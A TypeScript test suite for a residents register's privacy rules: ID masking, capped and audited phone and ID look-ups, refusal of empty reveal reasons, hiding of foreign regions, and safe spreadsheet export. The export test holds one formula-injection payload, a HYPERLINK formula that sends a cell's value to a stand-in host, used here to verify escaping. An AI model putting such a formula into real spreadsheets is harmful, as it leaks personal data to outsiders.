import ExcelJS from 'exceljs';
import { beforeAll, expect, it } from 'vitest';
import { auditPageSchema } from '../../../shared/api/audit.js';
import { pageOf } from '../../../shared/api/common.js';
import { organizationSchema } from '../../../shared/api/organizations.js';
import { personListItemSchema, personPageSchema } from '../../../shared/api/register.js';
import { regionAt } from '../../../shared/region-code.js';
import { Scope } from '../../auth/scope.js';
import { SYSTEM_ACTOR } from '../../bootstrap.js';
import { residentRows, writeResidentXlsx } from '../../fixtures/resident-rows.js';
import { describeEachDialect, QINGNIAN, SHANGHAI_XINCUN } from '../../testing/test-env.js';
import { importResidents } from './import/resident-import.js';

const LOOKUPS_PER_HOUR = 4;

/**
 * The review found masked values that the rows themselves rebuild (the birth date is the hidden
 * part of an ID number), whole-number searches that recover a masked phone by guessing, reasons
 * that say nothing, unaudited masked exports and region filters that confirm foreign regions.
 */
describeEachDialect(
  'persons: what masking hides stays hidden',
  (env) => {
    let grid = '';
    let otherGrid = '';
    let rows: string[][] = [];

    beforeAll(async () => {
      grid = await env.createRegion(QINGNIAN, 'grid', '隐私网格');
      await env.createRegion(grid, 'building', '1号楼');
      otherGrid = await env.createRegion(SHANGHAI_XINCUN, 'grid', '他处网格');
      await env.createRegion(otherGrid, 'building', '1号楼');
      rows = [...residentRows({ count: 20, gridCode: grid, buildings: ['1号楼'], seed: 21 })];
      const file = env.file('people.xlsx');
      await writeResidentXlsx(file, rows);
      const outcome = await importResidents(env.ctx, file, 'xlsx', {
        scope: new Scope(['230108'], env.dialect),
        actor: SYSTEM_ACTOR,
        skipInvalid: false,
      });
      expect(outcome.created).toBe(20);
    });

    const signIn = async (role: 'grid_worker' | 'secretary' | 'hotline_operator', regionCode: string) => {
      const user = await env.createUser({ role, regionCode });
      return { cookie: await env.login(user.username, user.password), ...user };
    };

    /** The eight digits an ID mask hides, in every way a date could be written. */
    const hiddenForms = (idNumber: string) => {
      const [y, m, d] = [idNumber.slice(6, 10), idNumber.slice(10, 12), idNumber.slice(12, 14)];
      return [`${y}${m}${d}`, `${y}-${m}-${d}`, `${y}/${m}/${d}`, `${y}年${Number(m)}月${Number(d)}日`];
    };

    it('shows no field beside a masked ID number that rebuilds what the mask hides', async () => {
      const { cookie } = await env.loginAs({ role: 'grid_worker', regionCode: grid });
      const list = await env.inject('GET', `/api/persons?region=${grid}&limit=50`, { cookie });
      expect(list.status).toBe(200);
      // Loose: a field the schema does not know (a birth date) must stay visible to the checks.
      const items = list.body(pageOf(personListItemSchema.loose())).items;
      expect(items).toHaveLength(20);
      for (const item of items) {
        const source = rows.find((r) => r[1]!.slice(-4) === item.idNumber.slice(-4) && r[0] !== undefined)!;
        expect(item.idNumber).toMatch(/^\d{6}\*{8}[\dX]{4}$/);
        expect(item).not.toHaveProperty('birthDate');
        expect(item.age).toEqual(expect.any(Number));
        const detail = await env.inject('GET', `/api/persons/${item.id}`, { cookie });
        for (const body of [JSON.stringify(item), JSON.stringify(detail.json)]) {
          for (const form of hiddenForms(source[1]!)) expect(body).not.toContain(form);
        }
      }
    });

    it('audits look-ups by a whole ID number or phone, without the value, and caps them per account', async () => {
      const { cookie, username, password } = await signIn('grid_worker', grid);
      // Plain searches are not look-ups: never counted, never refused.
      for (let i = 0; i < LOOKUPS_PER_HOUR + 2; i++) {
        expect((await env.inject('GET', '/api/persons?q=1号楼', { cookie })).status).toBe(200);
      }
      // Many guesses at once: exactly the cap is answered, whatever the concurrency.
      const guesses = Array.from(
        { length: 12 },
        (_, i) => `139${String(10_000_000 + i * 7919).slice(-8)}`, // whole phone numbers
      );
      const answers = await Promise.all(
        guesses.map((q) => env.inject('GET', `/api/persons?q=${q}`, { cookie })),
      );
      const statuses = answers.map((a) => a.status).sort();
      expect(statuses.filter((s) => s === 200)).toHaveLength(LOOKUPS_PER_HOUR);
      expect(statuses.filter((s) => s === 429)).toHaveLength(12 - LOOKUPS_PER_HOUR);
      const refused = answers.find((a) => a.status === 429)!;
      expect(refused.json).toMatchObject({ code: 'person.lookup_limited' });
      expect(refused.error.message).toContain(String(LOOKUPS_PER_HOUR));
      // An ID number is refused too, and so is a later page that would start a new search.
      expect((await env.inject('GET', `/api/persons?q=${rows[0]![1]}`, { cookie })).status).toBe(429);

      const admin = await env.loginAdmin();
      const audit = await env.inject(
        'GET',
        `/api/audit?action=person.looked_up&actor=${username}&limit=200`,
        {
          cookie: admin,
        },
      );
      const mine = audit.body(auditPageSchema).items;
      expect(mine).toHaveLength(LOOKUPS_PER_HOUR);
      expect(mine[0]!.summary).toEqual({ kind: 'phone', via: 'register' });
      for (const guess of guesses) expect(JSON.stringify(audit.json)).not.toContain(guess);

      // An hour later the account may look up again.
      env.advanceMinutes(61);
      const later = await env.login(username, password); // the old session has gone idle meanwhile
      expect((await env.inject('GET', `/api/persons?q=${rows[0]![1]}`, { cookie: later })).status).toBe(200);
    });

    it('counts the hotline console’s caller look-up as a look-up', async () => {
      const { cookie } = await env.loginAs({ role: 'hotline_operator', regionCode: '230108' });
      for (let i = 0; i < LOOKUPS_PER_HOUR; i++) {
        const found = await env.inject('GET', `/api/work-orders/caller?phone=1390000000${i}`, { cookie });
        expect(found.status).toBe(200);
      }
      const over = await env.inject('GET', '/api/work-orders/caller?phone=13900000009', { cookie });
      expect(over.status).toBe(429);
      expect(over.error.code).toBe('person.lookup_limited');
    });

    it('treats a new member typed by whole ID number as a look-up, and does not say where the person is', async () => {
      const { cookie, username } = await signIn('secretary', SHANGHAI_XINCUN);
      const committee = await env.inject('POST', '/api/organizations', {
        cookie,
        body: { kind: 'committee', name: '上海新村社区党委', anchorRegionCode: SHANGHAI_XINCUN },
      });
      expect(committee.status).toBe(201);
      // rows[0] lives in 青年社区, outside this secretary's scope.
      const refused = await env.inject('POST', '/api/members', {
        cookie,
        body: {
          organizationId: committee.body(organizationSchema).id,
          person: { name: '某人', idNumber: rows[0]![1] },
          category: 'formal',
          status: 'in_service',
          joinedOn: '2020-07-01',
        },
      });
      expect(refused.status).toBe(409);
      expect(refused.error.message).not.toMatch(/其他辖区|已在/);
      const admin = await env.loginAdmin();
      const audit = await env.inject('GET', `/api/audit?action=person.looked_up&actor=${username}`, {
        cookie: admin,
      });
      expect(audit.body(auditPageSchema).items.map((e) => e.summary)).toEqual([
        { kind: 'id_number', via: 'member_create' },
      ]);
    });

    it('refuses a reason that says nothing: dots, spaces, zero-width characters', async () => {
      const { cookie } = await env.loginAs({ role: 'secretary', regionCode: QINGNIAN });
      const person = (await env.inject('GET', `/api/persons?region=${grid}&limit=1`, { cookie })).body(
        personPageSchema,
      ).items[0]!;
      for (const reason of ['..', '。。。', ' \u200b\u200b ', 'a\u200d', '\u202e\u202d--']) {
        const response = await env.inject('POST', `/api/persons/${person.id}/reveal`, {
          cookie,
          body: { field: 'idNumber', reason },
        });
        expect(response.status, JSON.stringify(reason)).toBe(400);
        expect(response.error.fields).toEqual([{ path: 'reason', message: expect.any(String) }]);
      }
      const ok = await env.inject('POST', `/api/persons/${person.id}/reveal`, {
        cookie,
        body: { field: 'idNumber', reason: '\u200b核实身份\u200b' },
      });
      expect(ok.status).toBe(200);
    });

    it('answers a region filter outside the scope as a region that does not exist', async () => {
      const { cookie } = await env.loginAs({ role: 'secretary', regionCode: QINGNIAN });
      for (const url of [
        `/api/persons?region=${otherGrid}`,
        `/api/persons?region=${SHANGHAI_XINCUN}`,
        `/api/coverage/${SHANGHAI_XINCUN}`,
        `/api/coverage/${SHANGHAI_XINCUN}/uncovered`,
        `/api/coverage/${SHANGHAI_XINCUN}/buildings-without-branch`,
        `/api/coverage/${SHANGHAI_XINCUN}/enterprises-without-organization`,
      ]) {
        const response = await env.inject('GET', url, { cookie });
        expect(response.status, url).toBe(404);
        expect(response.error.code, url).toBe('region.not_found');
      }
      const exported = await env.inject('POST', '/api/persons/export', {
        cookie,
        body: { region: otherGrid },
      });
      expect(exported.status).toBe(404);
      expect(exported.error.code).toBe('region.not_found');
      // A region above one's own narrows to one's own: the street filter shows 青年社区's people.
      const street = await env.inject('GET', `/api/persons?region=${regionAt(QINGNIAN, 'street')}`, {
        cookie,
      });
      expect(street.status).toBe(200);
      expect(street.body(personPageSchema).items.length).toBeGreaterThan(0);
    });

    it('audits a masked export and writes no cell a spreadsheet would run as a formula', async () => {
      const { cookie, username } = await signIn('secretary', QINGNIAN);
      const person = (await env.inject('GET', `/api/persons?region=${grid}&limit=1`, { cookie })).body(
        personPageSchema,
      ).items[0]!;
      const hostile = '=HYPERLINK("http://example.invalid/?"&B2,"点击")';
      const corrected = await env.inject('PATCH', `/api/persons/${person.id}`, {
        cookie,
        body: { registeredAddress: hostile, note: '+1+2' },
      });
      expect(corrected.status).toBe(200);
      const response = await env.app.inject({
        method: 'POST',
        url: '/api/persons/export',
        headers: { cookie },
        payload: { region: grid },
      });
      expect(response.statusCode).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
      const sheet = workbook.worksheets[0]!;
      const cells: unknown[] = [];
      sheet.eachRow((row) => {
        row.eachCell((cell) => {
          cells.push(cell.value);
        });
      });
      expect(cells).toContain(`'${hostile}`);
      expect(cells).toContain(`'+1+2`);
      for (const value of cells) {
        expect(typeof value === 'string' || typeof value === 'number', JSON.stringify(value)).toBe(true);
        if (typeof value === 'string') expect(value).not.toMatch(/^[=+\-@]/);
      }
      const admin = await env.loginAdmin();
      const audit = await env.inject('GET', `/api/audit?action=person.exported&actor=${username}&limit=50`, {
        cookie: admin,
      });
      const mine = audit.body(auditPageSchema).items.filter((e) => e.action === 'person.exported');
      expect(mine).toHaveLength(1);
      expect(mine[0]!.summary.filter).toEqual({ region: grid });
    });
  },
  { LIANXIN_LOOKUPS_PER_HOUR: String(LOOKUPS_PER_HOUR) },
);
